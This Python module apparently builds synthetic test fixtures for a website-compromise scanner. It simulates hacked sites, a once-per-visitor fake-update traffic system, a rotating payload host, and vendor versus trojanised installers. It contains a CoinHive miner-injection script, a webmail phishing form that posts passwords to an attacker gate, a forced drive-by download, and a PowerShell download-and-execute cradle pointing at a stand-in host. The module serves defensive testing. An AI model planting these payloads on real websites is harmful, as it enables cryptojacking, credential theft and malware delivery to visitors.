"""Pages for issue 11 points 5 and 8: one incident per site; executables alone.

Point 5, payloads that change between visits:

- ``incidents-once-ip``: a TDS (``attacker-oncetds``) hands a fake-update overlay
  to each visitor IP once; the site's hidden iframe stays. First visit:
  fake-update; later visits: hidden-iframe.
- ``incidents-once-cookie``: the site's own script injects a miner on the first
  visit and sets a cookie (and remembers the IP, as kits do); a Balada-style
  loader stays. First visit: cryptominer; later: injected-script.
- ``incidents-rotating``: a payload host (``attacker-rotator``) rotates what it
  serves per visit: a miner, then a fake-update overlay, then a miner...
- ``incidents-two-*``: one site, two URLs in two families in one run.

Point 8, executables alone are not compromise:

- a vendor's download page and its installers (PE, MSI, APK, ELF, and a PE as
  octet-stream on another vendor): suspicious, no incident;
- the same kinds of installer with a SHA-256 on the known-bad list, or matched by a
  detection rule (an IoT-bot ELF, a PE carrying a PowerShell cradle): malicious;
- a compromised page that makes visitors download an installer from elsewhere:
  malicious; the vendor's own "download starts now" page: suspicious.

The "seen" memory of first-visit payloads is the sandbox's attacker log, which
``Sandbox.reset()`` clears after every test. Everything is synthetic and inert.
"""

from __future__ import annotations

import hashlib
from functools import cache

from tocsin.sandbox import payloads
from tocsin.sandbox.pages import (
    Env,
    Reply,
    Result,
    _log,
    behaviour,
    common_files,
    fake_update_overlay,
    generic_loader,
    js,
    not_found,
    page,
)

FIRST_VISIT_COOKIE = "wp_fv"


def _seen(env: Env, what: str) -> int:
    """How often this visitor IP got ``what`` from this host (the kit's memory)."""
    remote = env.request.remote or ""
    return sum(
        1
        for entry in env.server.attacker_log
        if entry["host"] == env.site.host and entry["what"] == what and entry["data"] == remote
    )


def _miner_injection(env: Env) -> str:
    """JS that injects the miner script at run time and starts it."""
    lib = f"{env.atk('miner')}/lib/miner.min.js"
    return (
        "(function(){var s=document.createElement('script');"
        f"s.src='{lib}';s.onload=function(){{var m=new CoinHive.Anonymous("
        "'SBX9fv2Kq7Lr1RcW3yTn8',{throttle:0.4});m.start();};"
        "document.head.appendChild(s);})();"
    )


# --------------------------------------------------------------------------- point 5


@behaviour("incidents-once-ip")
async def once_ip(env: Env) -> Result:
    if env.path != "/":
        return common_files(env)
    extra = ""
    if env.compromised:
        extra = (
            f'<script src="{env.atk("oncetds")}/s.js?sid=kb41"></script>\n'
            f'<iframe src="{env.atk("tds")}/in.cgi?kb" width="0" height="0" '
            'frameborder="0"></iframe>'
        )
    content = "<h2>Sourdough, baked at dawn</h2><p>Open Tuesday to Sunday, 7am to 2pm.</p>"
    return page(env, content, scripts=extra)


@behaviour("attacker-oncetds")
async def attacker_oncetds(env: Env) -> Result:
    """A SocGholish-style TDS: the overlay once per visitor IP, then nothing."""
    if env.path != "/s.js":
        return None
    if _seen(env, "first-visit"):
        return js("/* 0 */")
    _log(env, "first-visit", env.request.remote or "")
    return js(fake_update_overlay(env))


@behaviour("incidents-once-cookie")
async def once_cookie(env: Env) -> Result:
    if env.path == "/wp-content/plugins/wp-fastcache/fc.js":
        body = "/* wp-fastcache 1.2 */window.__fc=1;"
        if not env.compromised:
            return js(body)
        fresh = FIRST_VISIT_COOKIE not in env.request.cookies and not _seen(env, "first-visit")
        if not fresh:
            return js(body)
        _log(env, "first-visit", env.request.remote or "")
        reply = js(body + _miner_injection(env))
        reply.headers["Set-Cookie"] = f"{FIRST_VISIT_COOKIE}=1; Max-Age=31536000; Path=/"
        return reply
    if env.path != "/":
        return common_files(env)
    scripts = '<script src="/wp-content/plugins/wp-fastcache/fc.js?ver=1.2"></script>'
    if env.compromised:
        scripts += "\n" + generic_loader(env)
    content = "<h2>Frische Brötchen jeden Morgen</h2><p>Mo–Sa 6–18 Uhr.</p>"
    return page(env, content, scripts=scripts)


@behaviour("incidents-rotating")
async def rotating(env: Env) -> Result:
    if env.path != "/":
        return common_files(env)
    scripts = ""
    if env.compromised:
        scripts = f'<script src="{env.atk("rotator")}/r.js?c=7"></script>'
    content = "<h2>やさしい歯科治療</h2><p>土曜日も診療しています。</p>"
    return page(env, content, scripts=scripts)


@behaviour("attacker-rotator")
async def attacker_rotator(env: Env) -> Result:
    """A payload host that rotates campaigns per visit, as traffic brokers do."""
    if env.path != "/r.js":
        return None
    turn = _seen(env, "rotation")
    _log(env, "rotation", env.request.remote or "")
    if turn % 2 == 0:
        return js(_miner_injection(env))
    return js(fake_update_overlay(env))


@behaviour("incidents-two-families")
async def two_families(env: Env) -> Result:
    """One site, two URLs: a miner on the home page, a webmail phish in a folder."""
    if env.path == "/":
        scripts = f"<script>{_miner_injection(env)}</script>" if env.compromised else ""
        content = "<h2>Hand-thrown stoneware</h2><p>Classes every Thursday evening.</p>"
        return page(env, content, scripts=scripts)
    if env.path == "/wp-includes/certificates/mail/index.php":
        if not env.compromised:
            return not_found()
        gate = f"{env.atk('phishgate')}/gate/next.php"
        return Reply(
            "<!DOCTYPE html><html><head><title>Webmail Login</title></head><body>"
            "<h2>Webmail</h2><p>Your mailbox is full. Sign in to verify your account "
            "or it will be suspended.</p>"
            f'<form method="post" action="{gate}">'
            '<input type="email" name="email" placeholder="Email" required>'
            '<input type="password" name="password" placeholder="Password" required>'
            '<input type="submit" value="Sign in"></form></body></html>'
        )
    return common_files(env)


@behaviour("incidents-two-download")
async def two_download(env: Env) -> Result:
    """One site, two URLs: a hidden iframe at home, a drive-by installer in /download/."""
    if env.path == "/":
        extra = ""
        if env.compromised:
            extra = (
                f'<iframe src="{env.atk("tds")}/in.cgi?gw" width="0" height="0" '
                'frameborder="0"></iframe>'
            )
        return page(env, "<h2>Gartenwerkzeug seit 1921</h2>", scripts=extra)
    if env.path == "/download/":
        scripts = ""
        if env.compromised:
            url = f"{env.atk('mirror')}/get/Katalog-Setup.exe"
            scripts = (
                "<script>window.addEventListener('load',function(){setTimeout(function(){"
                f"var a=document.createElement('a');a.href='{url}';a.download='Katalog-Setup.exe';"
                "document.body.appendChild(a);a.click();},600);});</script>"
            )
        return page(
            env, "<h2>Katalog 2024</h2><p>Der Download startet gleich.</p>", scripts=scripts
        )
    if env.path == "/wp-content/uploads/2024/05/Katalog-Setup.exe":
        if not env.compromised:
            return not_found()
        return Reply(
            installer("pe", 41),
            content_type="application/x-msdownload",
            headers={"Content-Disposition": 'attachment; filename="Katalog-Setup.exe"'},
        )
    return common_files(env)


# --------------------------------------------------------------------------- point 8

# path -> (kind, variant, Content-Type, file name); the variant makes each file's hash
# its own. Vendors' files are served whatever the site's state: they are legitimate.
VENDOR_FILES: dict[str, tuple[str, int, str, str | None]] = {
    "/files/QuillPad-Setup-4.2.1.exe": ("pe", 11, "application/x-msdownload", None),
    "/files/QuillPad-4.2.1-x64.msi": ("msi", 12, "application/x-msi", None),
    "/files/quillpad-4.2.1.apk": ("apk", 13, "application/vnd.android.package-archive", None),
    "/files/quillpad-4.2.1-linux-i386": ("elf-x86", 14, "application/x-executable", None),
    "/releases/BrightPixel-Installer.exe": (
        "pe",
        15,
        "application/octet-stream",
        "BrightPixel-Installer.exe",
    ),
}
# Trojanised builds: the same kinds of file, with their SHA-256 on the known-bad list.
KNOWN_BAD_FILES: dict[str, tuple[str, int, str, str | None]] = {
    "/files/PDFMerge-Setup-3.0.exe": ("pe", 21, "application/x-msdownload", None),
    "/files/PDFMerge-3.0.msi": ("msi", 22, "application/x-msi", None),
}
# Installers a detection rule matches: an IoT-bot ELF, a PE carrying a PowerShell cradle.
RULE_FILES: dict[str, tuple[str, int, str, str | None]] = {
    "/support/tools/meshlink-agent-arm": ("elf-bot", 0, "application/octet-stream", None),
    "/support/tools/MeshLink-Setup.exe": (
        "pe-cradle",
        0,
        "application/x-msdownload",
        "MeshLink-Setup.exe",
    ),
}

# A plain installer on the rule-matched host: alone it would be suspicious; served by a
# site with an open incident it is malicious (pipelines/executables.py). Not in the
# catalogue: whether the site's incident is known first depends on the crawl's order.
LONE_FILES: dict[str, tuple[str, int, str, str | None]] = {
    "/support/tools/MeshLink-Updater.exe": ("pe", 31, "application/x-msdownload", None),
}

BOT_STRINGS = b"\0/bin/busybox\0/dev/watchdog\0GETLOCALIP\0"
CRADLE = (
    b'\0powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('
    b"'http://stage2-payload-host.invalid/a.ps1')\"\0"
)


@cache
def msi() -> bytes:
    """An OLE2 compound file with the Windows Installer markers (inert)."""
    streams = "SummaryInformation\0Windows Installer XML\0MSI".encode("utf-16-le")
    return payloads._ole(streams + b"\0" + payloads.MARKER)


@cache
def installer(kind: str, variant: int = 0) -> bytes:
    """An installer-like file of ``kind``; ``variant`` gives it a hash of its own."""
    if kind == "msi":
        data = msi()
    elif kind == "elf-x86":
        data = payloads._elf(3, big_endian=False)
    elif kind == "elf-bot":
        data = payloads.elf_arm() + BOT_STRINGS
    elif kind == "pe-cradle":
        data = payloads.pe_exe() + CRADLE
    else:
        return payloads.payload_bytes(kind, variant)
    if variant:
        data += f"\0{payloads.MARKER.decode()} variant {variant}\0".encode()
    return data


def known_bad_hashes() -> list[str]:
    """SHA-256 lines for the sandbox's known-bad list: the trojanised builds, and the
    catalogue's classic samples (Invoice_0342.exe, the banking APK) as a feed lists them."""
    files = [installer(kind, variant) for kind, variant, _, _ in KNOWN_BAD_FILES.values()]
    files += [payloads.pe_exe(), payloads.apk()]
    return [hashlib.sha256(data).hexdigest() for data in files]


def _serve(table: dict[str, tuple[str, int, str, str | None]], env: Env) -> Reply | None:
    if env.path not in table:
        return None
    kind, variant, content_type, filename = table[env.path]
    name = filename or env.path.rsplit("/", 1)[1]
    return Reply(
        installer(kind, variant),
        content_type=content_type,
        headers={"Content-Disposition": f'attachment; filename="{name}"'},
    )


@behaviour("attacker-mirror")
async def attacker_mirror(env: Env) -> Result:
    """A fake download mirror that a compromised page pushes an installer from."""
    if env.path != "/get/Katalog-Setup.exe":
        return None
    _log(env, "download")
    return Reply(
        installer("pe", 41),
        content_type="application/x-msdownload",
        headers={"Content-Disposition": 'attachment; filename="Katalog-Setup.exe"'},
    )


@behaviour("incidents-vendor")
async def vendor(env: Env) -> Result:
    """A software vendor: a download page linking to its installers, a "your download
    starts now" page that fetches its own installer without a click, and the files."""
    served = _serve(VENDOR_FILES, env)
    if served is not None:
        return served
    if env.path == "/download/start/":
        url = f"{env.own}/files/QuillPad-Setup-4.2.1.exe"
        scripts = (
            "<script>window.addEventListener('load',function(){setTimeout(function(){"
            f"var a=document.createElement('a');a.href='{url}';"
            "a.download='QuillPad-Setup-4.2.1.exe';document.body.appendChild(a);a.click();"
            "},500);});</script>"
        )
        content = (
            "<h2>Thank you for downloading QuillPad</h2><p>Your download starts in a "
            f'moment. If it does not, <a href="{url}">click here</a>.</p>'
        )
        return page(env, content, scripts=scripts, title="Downloading QuillPad")
    if env.path != "/download/":
        return common_files(env)
    links = "".join(
        f'<li><a href="{path}">{path.rsplit("/", 1)[1]}</a></li>'
        for path in VENDOR_FILES
        if path.startswith("/files/")
    )
    content = (
        "<h2>Download QuillPad 4.2.1</h2><p>A free, open-source text editor. "
        "Signed installers for Windows, Android and Linux.</p>"
        f"<ul>{links}</ul><p>SHA-256 checksums are on the release notes page.</p>"
    )
    return page(env, content, title="Download QuillPad")


@behaviour("incidents-vendor-files")
async def vendor_files(env: Env) -> Result:
    """A download site whose files are known-bad or rule-matched builds."""
    for table in (KNOWN_BAD_FILES, RULE_FILES, LONE_FILES, VENDOR_FILES):
        served = _serve(table, env)
        if served is not None:
            return served
    return None if env.path == env.site.entry.split("?")[0] else common_files(env)
